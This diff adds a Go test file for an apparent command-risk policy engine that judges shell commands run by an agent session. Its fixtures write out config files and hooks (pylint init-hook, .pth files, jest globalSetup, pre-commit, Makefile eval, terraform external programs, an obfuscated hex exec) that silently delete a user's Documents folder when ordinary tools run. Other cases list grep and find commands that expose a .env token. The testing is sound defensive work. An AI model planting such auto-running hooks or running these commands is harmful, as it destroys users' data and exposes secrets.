@@ -1,0 +1,134 @@
+package policy_test
+
+import (
+	"path/filepath"
+	"testing"
+	"time"
+
+	"guard/internal/disk"
+	"guard/policy"
+	"guard/policy/past"
+	"guard/policy/place"
+	"guard/policy/risk"
+)
+
+// planted are files that a call wrote, and a later line whose program loads one of them
+// though no word names it.
+var planted = []struct {
+	name  string
+	files map[string]string
+	line  string
+}{
+	{"pylint's init-hook", map[string]string{".pylintrc": "[MASTER]\ninit-hook='import shutil; shutil.rmtree(\"/home/eve/Documents\")'\n"}, "pylint src"},
+	{"mypy's plugin", map[string]string{"mypy.ini": "[mypy]\nplugins=plug.py\n", "plug.py": "import shutil\nshutil.rmtree('/home/eve/Documents')\n"}, "mypy ."},
+	{"invoke's tasks", map[string]string{"tasks.py": "from invoke import task\n@task\ndef t(c): c.run('rm -rf ~/Documents')\n"}, "invoke t"},
+	{"scons", map[string]string{"SConstruct": "Execute('rm -rf ~/Documents')\n"}, "scons"},
+	{"a path file", map[string]string{"lib/site-packages/x.pth": "import shutil; shutil.rmtree('/home/eve/Documents')\n"}, "python3 run.py"},
+	{"a module of the library", map[string]string{"token.py": "import shutil\nshutil.rmtree('/home/eve/Documents')\n"}, "python3 -m json.tool x.json"},
+	{"a package's own start", map[string]string{"pk/__init__.py": "import shutil\nshutil.rmtree('/home/eve/Documents')\n", "pk/__main__.py": "print(1)\n"}, "python3 -m pk"},
+	{"a package of node's", map[string]string{"node_modules/zz/index.js": "require('fs').rmSync('/home/eve/Documents', {recursive: true})\n", "app.js": "require('zz')\n"}, "node app.js"},
+	{"a folder's main file", map[string]string{"lib/package.json": `{"main":"z.dat"}`, "lib/z.dat": "require('fs').rmSync('/home/eve/Documents', {recursive: true})\n", "t.js": "require('./lib')\n"}, "node t.js"},
+	{"eslint's rules", map[string]string{"rules/r.js": "require('fs').rmSync('/home/eve/Documents', {recursive: true})\n"}, "npx eslint --rulesdir rules src"},
+	{"jest's settings in package.json", map[string]string{"package.json": `{"jest":{"globalSetup":"./s.js"}}`, "s.js": "require('fs').rmSync('/home/eve/Documents', {recursive: true})\n"}, "npx jest"},
+	{"a folder that vite empties", map[string]string{"vite.config.js": "export default {build: {outDir: '/home/eve/Documents', emptyOutDir: true}}\n"}, "npx vite build"},
+	{"lint-staged", map[string]string{"package.json": `{"lint-staged":{"*":"rm -rf ~/Documents"}}`}, "npx lint-staged"},
+	{"hooks of a commit", map[string]string{".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: rm -rf ~/Documents\n"}, "git commit -m x"},
+	{"rspec's options", map[string]string{".rspec": "-r ./z.rb\n", "z.rb": "system('rm -rf ~/Documents')\n"}, "rspec"},
+	{"R's profile", map[string]string{".Rprofile": "unlink('/home/eve/Documents', recursive=TRUE)\n"}, "Rscript -e 'print(1)'"},
+	{"prove's options", map[string]string{".proverc": "-e ./z.sh\n", "z.sh": "rm -rf ~/Documents\n"}, "prove"},
+	{"latexmk's settings", map[string]string{".latexmkrc": "system('rm -rf ~/Documents');\n"}, "latexmk a.tex"},
+	{"terraform's programs", map[string]string{"main.tf": `data "external" "x" { program = ["rm", "-rf", "/home/eve/Documents"] }` + "\n"}, "terraform plan"},
+	{"Gradle's deletions", map[string]string{"build.gradle": "task x { doLast { delete '/home/eve/Documents' } }\n"}, "gradle x"},
+	{"Maven's programs", map[string]string{"pom.xml": "<configuration><executable>rm</executable><arguments><argument>/home/eve/Documents</argument></arguments></configuration>\n"}, "mvn package"},
+	{"Rust that empties a file", map[string]string{"src/main.rs": "fn main() { std::fs::write(\"/home/eve/notes.txt\", \"\"); }\n"}, "cargo run"},
+	{"code that is included", map[string]string{"build.rs": "include!(\"z.txt\");\n", "z.txt": "fn main() { std::fs::remove_dir_all(\"/home/eve/Documents\"); }\n"}, "cargo build"},
+	{"dune's actions", map[string]string{"dune": `(rule (targets x) (action (system "rm -rf ~/Documents")))` + "\n"}, "dune build"},
+	{"an image's context", map[string]string{"compose.yml": "services:\n x:\n  build:\n   context: /home/eve\n"}, "docker compose build"},
+	{"a package from elsewhere", map[string]string{"Cargo.toml": "[dependencies]\nx = { git = \"https://example.com/x\" }\n"}, "cargo build"},
+	{"another build tool", map[string]string{"gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://example.com/g.zip\n"}, "gradle build"},
+	{"rules that a makefile makes up", map[string]string{"Makefile": "define X\nall:\n\trm -r$(e)f ~/Documents\nendef\n$(eval $(X))\n"}, "make"},
+	{"a package's script", map[string]string{"packages/a/package.json": `{"name":"a","scripts":{"build":"rm -rf ~/Documents"}}`}, "npx turbo build"},
+	{"a plugin that hides what it does", map[string]string{"plug.py": "exec(bytes.fromhex('00').decode())\n"}, "pylint src"},
+	{"code of a host", map[string]string{"x_test.ts": "import 'https://example.com/x.ts'\n"}, "deno test -A"},
+}
+
+// TestPlanted: what a session wrote and a program loads by itself is judged before
+// that program runs, on a disk and as a record tells it.
+func TestPlanted(t *testing.T) {
+	for _, p := range planted {
+		t.Run(p.name, func(t *testing.T) {
+			if f := afterCall(t, p.files, p.line); f.Level.Effective() < risk.High && !f.Categories.Has(risk.ExecArbitrary) {
+				t.Errorf("%s runs unasked: %s %s %v", p.line, f.Level, f.Categories, f.Reasons)
+			}
+		})
+	}
+}
+
+// TestPlantedHarmless: everyday files that a session wrote hold up no everyday program.
+func TestPlantedHarmless(t *testing.T) {
+	files := map[string]string{
+		"package.json":      `{"name":"p","scripts":{"clean":"rm -rf dist","deploy":"rm -rf ~/x"},"jest":{"testEnvironment":"node"}}`,
+		"jest.config.js":    "module.exports = {roots: ['<rootDir>/src'], coverageDirectory: 'coverage'}\n",
+		"vite.config.js":    "export default {build: {outDir: 'dist', emptyOutDir: true}}\n",
+		"src/api.ts":        "export const get = () => fetch('https://example.com/api/v1/users')\n",
+		"src/paths.rs":      "fn main() { std::fs::write(\"out/report.txt\", \"x\").unwrap(); }\n",
+		"Makefile":          "clean:\n\trm -rf build\nall:\n\techo ok\n",
+		"pyproject.toml":    "[tool.pytest.ini_options]\naddopts = \"-q\"\n",
+		"app.py":            "import json\nprint(json.dumps({'path': '/api/v1/users'}))\n",
+		"tests/test_app.py": "import tempfile, shutil\ndef test():\n    d = tempfile.mkdtemp()\n    shutil.rmtree(d)\n",
+		"README.md":         "To clean up: `rm -rf ~/.cache/p`\n",
+		"Dockerfile":        "FROM debian\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nCOPY . /srv\n",
+		"build.gradle":      "plugins { id 'java' }\nrepositories { mavenCentral() }\n",
+		"Cargo.toml":        "[package]\nname = 'p'\nversion = '0.1.0'\n[dependencies]\nserde = '1'\n",
+	}
+	for _, line := range []string{
+		"pytest", "npx jest", "npx eslint src", "npx vite build", "npx tsc --noEmit", "mypy .", "ruff check .", "cargo build", "cargo test", "gradle build",
+		"make all", "python3 app.py", "go test ./...", "docker build .", "git commit -m x", "npx prettier --check .",
+	} {
+		if f := afterCall(t, files, line); f.Level.Effective() >= risk.High || f.Categories != 0 {
+			t.Errorf("%s: %s %s %v", line, f.Level, f.Categories, f.Reasons)
+		}
+	}
+}
+
+// afterCall judges a line after a call that wrote some files.
+func afterCall(t *testing.T, files map[string]string, line string) policy.Facts {
+	t.Helper()
+	p := atHome(t)
+	s, d := new(past.Session), disk.New(time.Minute)
+	call := past.Call{ID: "first", By: "write them", At: disk.Clock()}
+	made := map[string]string{}
+	for name, text := range files {
+		made["project/"+name] = text
+		call.Writes = append(call.Writes, filepath.Join(p.project, name))
+	}
+	s.Began(call, d, nil)
+	p.holds(t, made)
+	s.Ended("first", time.Now(), d)
+	for name := range files {
+		if _, ok := s.For(d, nil).Made(filepath.Join(p.project, name)); !ok {
+			t.Skip("this file system does not tell when a file was born")
+		}
+	}
+	w := place.World{Workspace: p.project, Home: "/home/eve", User: "eve", Disk: d, Past: s.For(d, nil)}
+	return policy.Judge{World: w}.Facts(policy.Request{Tool: policy.Shell, Command: line, Cwd: p.project})
+}
+
+// TestSearchShowsSecrets: a search of a whole folder that matches a line of a file of
+// secrets shows it, and one that does not is everyday work.
+func TestSearchShowsSecrets(t *testing.T) {
+	p := atHome(t)
+	p.holds(t, map[string]string{"project/.env": "API_TOKEN=abcdef\n", "project/src/a.py": "print(1)\n"})
+	for line, shows := range map[string]bool{
+		"grep -r TOKEN .": true, "grep -rn API_ .": true, "grep -rh '' .": true, "grep -rE 'x|ABCDEF' -i": true, "rgrep TOKEN": true, "rg -uu TOKEN": true, "rg --hidden --no-ignore =": true,
+		"grep -r def .": true, "grep -rv zzz .": true, "find . -type f | xargs cat": true, "find . -type f -exec cat {} +": true, "git grep --no-index TOKEN": true,
+		"grep -rn 'print' src": false, "grep -rn nothing .": false, "rg TOKEN": false, "grep -rl TOKEN .": false, "grep -rc TOKEN .": false, "grep -rn TOKEN --include='*.py' .": false,
+		"find . -name '*.py' | xargs cat": false, "find . -name '*.py' -exec cat {} +": false, "git grep TOKEN": false, "grep -rn TOKEN src": false,
+	} {
+		w := place.World{Workspace: p.project, Home: p.home, User: "eve", Disk: disk.New(time.Minute)}
+		f := policy.Judge{World: w}.Facts(policy.Request{Tool: policy.Shell, Command: line, Cwd: p.project})
+		if f.Categories.Has(risk.FSConfigSecrets) != shows {
+			t.Errorf("%s: %s %s %v", line, f.Level, f.Categories, f.Reasons)
+		}
+	}
+}
